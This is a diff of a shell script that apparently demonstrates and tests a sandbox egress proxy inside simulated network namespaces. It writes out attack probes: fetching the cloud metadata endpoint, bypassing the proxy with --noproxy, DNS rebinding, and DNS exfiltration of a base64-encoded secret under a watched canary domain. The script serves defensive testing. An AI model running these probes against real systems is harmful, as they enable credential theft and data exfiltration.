@@ -29,8 +29,9 @@ cleanup() {
 		for _ in $(seq 50); do kill -0 "$BPID" 2>/dev/null || break; sleep 0.1; done
 		wait "$BPID" 2>/dev/null
 	fi
+	local p=$WORLD_PREFIX
 	world_down
-	echo "  world $WORLD_PREFIX removed; namespaces left: $(ip netns list | grep -c "^$WORLD_PREFIX" || true)"
+	echo "  world $p removed; its namespaces left: $(ip netns list | grep -c "^$p" || true)"
 }
 trap cleanup EXIT
 
@@ -78,8 +79,8 @@ show curl http://11.0.2.10/
 X curl -s -m 10 -o /dev/null -D - http://11.0.2.10/ | grep -Ei '^(HTTP|x-sluice)' | sed 's/^/  /'
 show curl http://169.254.169.254/latest/meta-data/
 X curl -s -m 10 -o /dev/null -D - http://169.254.169.254/latest/meta-data/ | grep -Ei '^(HTTP|x-sluice)' | sed 's/^/  /'
-show "curl --noproxy '*' http://169.254.169.254/   (bypassing the proxy)"
-X $NOPROXY curl -s -m 5 -o /dev/null http://169.254.169.254/ && echo "  LEAK" || echo "  refused (curl exit $?)"
+show "curl --noproxy '*' http://169.254.169.254/   (bypassing the proxy: the transparent path answers)"
+X $NOPROXY curl -s -m 5 -o /dev/null -D - http://169.254.169.254/ | grep -Ei '^(HTTP|x-sluice)' | sed 's/^/  /'
 
 step "4. An allowed name that resolves into a private range (DNS rebinding)"
 show curl http://rebind.world.test/
@@ -88,7 +89,7 @@ X curl -s -m 10 -o /dev/null -D - http://rebind.world.test/ | grep -Ei '^(HTTP|x
 step "5. DNS exfiltration: a secret in a label under a name the attacker watches"
 show "getent hosts c2VjcmV0.canary.world.test"
 X $NOPROXY getent ahostsv4 c2VjcmV0.canary.world.test || echo "  not resolved"
-if grep -q c2VjcmV0 "$D/dnsmasq.log"; then echo "  LEAK: the resolver saw it"; else
+if grep -qi c2VjcmV0 "$D/dnsmasq.log"; then echo "  LEAK: the resolver saw it"; else
 	echo "  the world's resolver saw no query for it"; fi
 
 step "6. A credential the sandbox never sees"
